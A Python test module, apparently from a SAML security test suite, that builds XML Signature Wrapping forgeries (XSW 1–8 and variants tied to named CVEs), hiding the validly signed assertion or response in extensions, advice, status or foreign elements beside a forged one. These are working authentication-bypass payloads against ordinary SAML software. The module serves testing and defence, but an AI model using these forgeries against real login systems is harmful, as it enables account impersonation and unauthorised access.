"""Signature wrapping: XSW 1 to 8, and the places where a signed element can be hidden."""

import re

import attacks as forge
import shapes
from signers import DS

# Name, and what stands before and behind what is hidden, put in front of a text of the forged response.
PLACES = {
    "extensions": ("<samlp:Extensions>", "</samlp:Extensions>", "<samlp:Status>"),
    "status-detail": ("<samlp:StatusDetail>", "</samlp:StatusDetail>", "</samlp:Status>"),
    "advice": ("<saml:Advice>", "</saml:Advice>", "<saml:AuthnStatement"),
    "confirmation-data": ("<saml:SubjectConfirmation Method=\"urn:x\"><saml:SubjectConfirmationData>", "</saml:SubjectConfirmationData></saml:SubjectConfirmation>", "<saml:SubjectConfirmation Method=\"" + shapes.BEARER),
    "attribute-value": ("<saml:Attribute Name=\"x\"><saml:AttributeValue>", "</saml:AttributeValue></saml:Attribute>", f'<saml:Attribute Name="{shapes.AWS}Role"'),
    "authn-context": ("<saml:AuthnContextDecl>", "</saml:AuthnContextDecl>", "<saml:AuthnContextClassRef>"),
    "response-end": ("", "", "</samlp:Response>"),
    "response-start": ("", "", "<samlp:Status>"),
    "foreign-element": ("<x:x xmlns:x=\"urn:x\">", "</x:x>", "<samlp:Status>"),
}

MISFORMED = "the schema allows no such child of Signature: xmlsec1 and the JDK do not read it, others look past it"


def hide(text, place, hidden):
    before, behind, mark = PLACES[place]
    assert mark in text, place
    return text.replace(mark, f"{before}{hidden}{behind}{mark}", 1)


def xsw(a):
    """The eight permutations."""
    response = a.signed(shapes.plain(), "_resp")
    signature, original = forge.signature_of(response), forge.unsigned(response)
    evil = forge.forged(original, "_resp", "_evil").replace('ID="_asrt"', 'ID="_evil2"')
    inside = signature.replace("</ds:KeyInfo>", f"</ds:KeyInfo>{original}")
    in_object = signature.replace("</ds:KeyInfo>", f"</ds:KeyInfo><ds:Object>{original}</ds:Object>")
    a.add("xsw1", "saml-raider", evil.replace("<samlp:Status>", f"{inside}<samlp:Status>", 1), forge.NOT_TRUSTED, why=MISFORMED)
    a.add("xsw1-object", "somorovsky-2012", evil.replace("<samlp:Status>", f"{in_object}<samlp:Status>", 1), ["wrapped"])
    a.add("xsw2", "saml-raider", evil.replace("<samlp:Status>", f"{original}{signature}<samlp:Status>", 1), ["wrapped"])
    a.add("xsw2-after", "somorovsky-2012", evil.replace("<samlp:Status>", f"{signature}{original}<samlp:Status>", 1), ["wrapped"])
    a.add("xsw-response-in-response", "CVE-2024-6202", evil.replace("<samlp:Status>", f"{response}<samlp:Status>", 1), ["wrapped"])

    good = a.signed(shapes.plain(), "_asrt")
    real, signed = forge.signature_of(good), forge.assertion_of(good)
    bare = forge.unsigned(signed)
    evil = forge.forged(bare, "_asrt", "_evil")
    carrying = lambda signature: evil.replace("<saml:Subject>", f"{signature}<saml:Subject>", 1)
    a.add("xsw3", "saml-raider", good.replace(signed, evil + signed), ["wrapped"])
    a.add("xsw3-published-2026", "CVE-2026-25922", good.replace(signed, evil.replace("_evil", "_before") + signed), ["wrapped"])
    a.add("xsw3-after", "CVE-2021-28091", good.replace(signed, signed + evil), ["wrapped"])
    a.add("xsw3-samlify", "CVE-2025-47949", good.replace(signed, evil.replace("_evil", "0") + signed), ["wrapped"])
    a.add("xsw4", "saml-raider", good.replace(signed, evil.replace("</saml:Assertion>", f"{signed}</saml:Assertion>")), ["wrapped"])
    a.add("xsw4-first-child", "somorovsky-2012", good.replace(signed, evil.replace("<saml:Issuer>", f"{signed}<saml:Issuer>", 1)), ["wrapped"])
    a.add("xsw5", "saml-raider", good.replace(signed, carrying(real) + bare), ["wrapped"])
    a.add("xsw5-before", "CVE-2020-5390", good.replace(signed, bare + carrying(real)), ["wrapped"])
    within = lambda before, behind: real.replace("</ds:KeyInfo>", f"</ds:KeyInfo>{before}{bare}{behind}")
    a.add("xsw6", "saml-raider", good.replace(signed, carrying(within("", ""))), forge.NOT_TRUSTED, why=MISFORMED)
    a.add("xsw7", "saml-raider", hide(good, "extensions", evil), ["wrapped"])
    a.add("xsw7-original", "CVE-2026-47201", hide(good.replace(signed, evil), "extensions", signed), ["wrapped"])
    a.add("xsw8", "saml-raider", good.replace(signed, carrying(within("<ds:Object>", "</ds:Object>"))), ["wrapped"])
    a.add("xsw8-key-info", "somorovsky-2012", good.replace(signed, carrying(real.replace("</ds:KeyInfo>", f"{bare}</ds:KeyInfo>"))), ["wrapped"])
    a.add("xsw-evil-response-around", "CVE-2024-6800", f"{forge.forged(forge.unsigned(good), '_resp', '_outer').replace('_asrt', '_evil').replace('</samlp:Response>', '')}{good}</samlp:Response>", ["wrapped"])
    a.add("xsw-signed-response-kept", "CVE-2011-1411", forge.forged(forge.unsigned(good), "_asrt", "_evil").replace("</samlp:Response>", f"{response}</samlp:Response>").replace('ID="_resp"', 'ID="_outer"', 1), ["wrapped"])


def hiding_places(a):
    """The signed assertion, or the signed response, in each place that takes anything; the forged one where readers look."""
    good = a.signed(shapes.plain(), "_asrt")
    real, signed = forge.signature_of(good), forge.assertion_of(good)
    bare = forge.unsigned(signed)
    forged = forge.forged(forge.unsigned(good), "_asrt", "_evil")
    carrying = forged.replace("<saml:Subject>", f"{real}<saml:Subject>", 1)
    response = a.signed(shapes.plain(), "_resp")
    outer = forge.forged(forge.unsigned(response), "_resp", "_outer").replace('ID="_asrt"', 'ID="_evil"')
    outer_carrying = outer.replace("<samlp:Status>", f"{forge.signature_of(response)}<samlp:Status>", 1)
    for place in PLACES:
        a.add(f"hidden-in-{place}", "somorovsky-2012", hide(forged, place, signed), ["wrapped"])
        a.add(f"hidden-in-{place}-signature-shown", "somorovsky-2012", hide(carrying, place, bare), ["wrapped"])
        a.add(f"response-hidden-in-{place}", "CVE-2021-21238", hide(outer, place, response), ["wrapped"])
        a.add(f"response-hidden-in-{place}-signature-shown", "CVE-2021-21238", hide(outer_carrying, place, forge.unsigned(response)), ["wrapped"])
    for place in ("extensions", "status-detail", "response-start", "response-end", "foreign-element"):
        evil = forge.forged(bare, "_asrt", "_evil")
        a.add(f"forged-in-{place}", "somorovsky-2012", hide(good, place, evil), ["wrapped"], sees=f"{forge.FORGED}, found by name anywhere")
